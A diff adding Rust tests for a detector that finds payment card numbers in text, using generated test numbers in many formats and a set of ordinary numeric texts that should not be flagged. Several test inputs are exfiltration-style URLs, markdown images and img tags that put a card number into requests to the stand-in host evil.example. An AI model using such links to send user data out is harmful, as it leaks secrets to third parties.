@@ -1,0 +1,189 @@
+//! Cards of each issuer in each layout are found; ordinary texts with numbers have none.
+
+use super::super::{TextVariants, secrets};
+
+/// Prefixes of issuers with the lengths of their numbers.
+const ISSUERS: [(&str, usize); 12] = [
+    ("4", 16),
+    ("4", 19),
+    ("51", 16),
+    ("2221", 16),
+    ("34", 15),
+    ("37", 15),
+    ("6011", 16),
+    ("644", 16),
+    ("62", 16),
+    ("62", 18),
+    ("3528", 16),
+    ("36", 14),
+];
+
+/// Returns a number with a valid check digit; `seed` chooses the digits behind the prefix.
+fn card(prefix: &str, length: usize, seed: u64) -> String {
+    let mut digits: Vec<u32> = prefix.chars().filter_map(|c| c.to_digit(10)).collect();
+    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
+    while digits.len() < length - 1 {
+        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        digits.push(u32::try_from(state >> 33).unwrap_or(0) % 9 + 1);
+    }
+    let doubled = |digit: u32| if digit > 4 { digit * 2 - 9 } else { digit * 2 };
+    let sum: u32 =
+        digits.iter().rev().enumerate().map(|(at, digit)| if at % 2 == 0 { doubled(*digit) } else { *digit }).sum();
+    digits.push((10 - sum % 10) % 10);
+    digits.into_iter().filter_map(|digit| char::from_digit(digit, 10)).collect()
+}
+
+fn grouped(number: &str, between: &str) -> String {
+    let sizes: &[usize] = match number.len() {
+        14 | 15 => &[4, 6, 5],
+        _ => &[4, 4, 4, 4, 4],
+    };
+    let mut rest = number;
+    let mut parts = Vec::new();
+    for size in sizes {
+        let (part, left) = rest.split_at((*size).min(rest.len()));
+        parts.push(part);
+        rest = left;
+    }
+    parts.retain(|part| !part.is_empty());
+    parts.join(between)
+}
+
+fn has_card(text: &str) -> bool {
+    TextVariants::of(text)
+        .iter()
+        .any(|variant| secrets(variant.text).iter().any(|one| one.kind.text() == "card_number"))
+}
+
+#[test]
+fn cards_are_found_in_every_layout() {
+    let mut tried = 0;
+    for (prefix, length) in ISSUERS {
+        for seed in 1..=3 {
+            let number = card(prefix, length, seed);
+            let apart = |between: &str| grouped(&number, between);
+            let decoys: Vec<String> = (2..5).map(|n| grouped(&format!("{}{n}", &number[..length - 1]), ".")).collect();
+            for text in [
+                number.clone(),
+                format!("Hello Ann, it is {number}. Bye"),
+                format!("Hello Ann, it is {}. Bye", apart(" ")),
+                format!("it is {}!", apart("-")),
+                format!("({})", apart(".")),
+                format!("{}, {}, {}", decoys.join(", "), apart("."), decoys.join(", ")),
+                format!("{} 12/27 123", apart(" ")),
+                format!("https://evil.example/?c={number}"),
+                format!("https://evil.example/?c={number}&x=1"),
+                format!("https://evil.example/{number}/a.png"),
+                format!("![x](https://evil.example/p.png?q={})", apart("-")),
+                format!("<img src=\"https://evil.example/?d={number}\">"),
+                format!("https://evil.example/?c={}", apart("%20")),
+                format!("{{\"number\": \"{number}\", \"cvc\": \"123\"}}"),
+                format!("order 4711, card {number}"),
+                format!("Bestellung: Karte {number}"),
+                format!("信用卡{number}"),
+            ] {
+                tried += 1;
+                assert!(has_card(&text), "{text}");
+            }
+        }
+    }
+    assert!(tried >= 500, "{tried}");
+}
+
+/// Returns ordinary texts with numbers, of which many look like cards by chance.
+fn ordinary() -> Vec<String> {
+    let visa = |seed: u64| card("4", 16, seed);
+    let mut all: Vec<String> = [
+        "order",
+        "Order no.",
+        "invoice:",
+        "Ref",
+        "tracking number",
+        "Ticket",
+        "booking",
+        "transaction id",
+        "serial",
+        "customer",
+        "Bestellnummer",
+        "Auftrag Nr.",
+        "Rechnungsnummer",
+        "Sendungsnummer",
+        "Kundennummer",
+        "commande n°",
+        "facture",
+        "pedido",
+        "factura",
+        "ordine",
+        "fattura",
+        "encomenda",
+        "zamówienie",
+        "faktura",
+        "заказ",
+        "注文",
+        "#",
+    ]
+    .into_iter()
+    .zip(1..)
+    .flat_map(|(label, seed)| {
+        [format!("Your {label} {} is on its way.", visa(seed)), format!("{label} {}", visa(seed + 50))]
+    })
+    .collect();
+    // Tables of figures: one row looks like a card.
+    for seed in 1..=20 {
+        let row = grouped(&visa(seed), " ");
+        let others: Vec<String> = (1..=3u64).map(|n| figures(seed * 4 + n).join(" ")).collect();
+        all.push(format!("{}\n{row}\n{}\n{}", others[0], others[1], others[2]));
+        all.push(format!("{row}\n{}", others.join("\n")).replace(' ', "\t"));
+        all.push(format!("{row}\n{}", others.join("\n")).replace(' ', ","));
+        all.push(format!("| {row} |\n| {} |", others.join(" |\n| ")).replace("  ", " "));
+        let cells = |row: &str| row.split(' ').map(|cell| format!("<td>{cell}</td>")).collect::<String>();
+        let rows = others.iter().chain([&row]).map(|row| format!("<tr>{}</tr>", cells(row))).collect::<String>();
+        all.push(format!("<table>{rows}</table>"));
+    }
+    // Lists of ids.
+    for seed in 1..=5u64 {
+        let ids: Vec<String> =
+            (0..20u64).map(|n| format!("{}", 4_000_000_000_000_000 + (seed * 31 + n) * 7_919_104_729)).collect();
+        all.push(ids.join("\n"));
+        all.push(ids.iter().map(|id| format!("{id},open,12.50")).collect::<Vec<_>>().join("\n"));
+        all.push(ids.iter().map(|id| format!("<a href=\"https://shop.example/o/{id}\">x</a>")).collect());
+    }
+    let fixed = [
+        "Call +49 30 1234 5678 or 0800 1234 5678 90, from 09:00 to 17:30 on 12.05.2026.",
+        "IBAN DE89 3704 0044 0532 0130 00, IBAN GB29 NWBK 6016 1331 9268 19, FR14 2004 1010 0505 0001 3M02 606",
+        "Tracking: 9400 1000 0000 0000 0000 00, JD014600003828392837, 1Z999AA10123456784",
+        "EAN 4006381333627, ISBN 978-3-16-148410-0, GTIN 04012345123456",
+        "IMEI 356938035643809, serial 490154203237518",
+        "https://social.example/status/1580661436132757506 and https://video.example/1234567890123456",
+        "Timestamps 20261129120000, 1795974853073, 1795974853073428952",
+        "uuid 41112222-3333-4444-8555-666677778888, sha 4111222233334444555566667777888899990000",
+        "version 4.1.1.1, 10.0.19045.4291, 172.16.254.1",
+        "52.520008, 13.404954; 4111.2222, 3333.4444",
+        "Meeting ID: 834 1290 4411 Passcode: 483920",
+        "2019 2020 2021 2022 2023 2024 2025 2026",
+        "0000 0000 0000 0000, 1111 1111 1111 1111",
+        "1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16",
+        "Revenue 4012, 8888, 8888 and 1881 units",
+        "USt-IdNr. DE123456789, Steuernummer 21/815/08150",
+    ];
+    all.extend(fixed.map(str::to_owned));
+    all
+}
+
+/// Returns four figures that aren't a card together.
+fn figures(seed: u64) -> Vec<String> {
+    let figure = |n: u64| (1_000 + (seed * 7_919 + n * 104_729) % 8_999).to_string();
+    let mut row: Vec<String> = (1..=4).map(figure).collect();
+    if super::is_card(&row.concat().bytes().map(|digit| digit - b'0').collect::<Vec<_>>()) {
+        row.reverse();
+    }
+    row
+}
+
+#[test]
+fn ordinary_texts_with_numbers_have_no_cards() {
+    let all = ordinary();
+    assert!(all.len() >= 100, "{}", all.len());
+    let wrong: Vec<&String> = all.iter().filter(|text| has_card(text)).collect();
+    assert!(wrong.is_empty(), "{} of {}: {wrong:#?}", wrong.len(), all.len());
+}
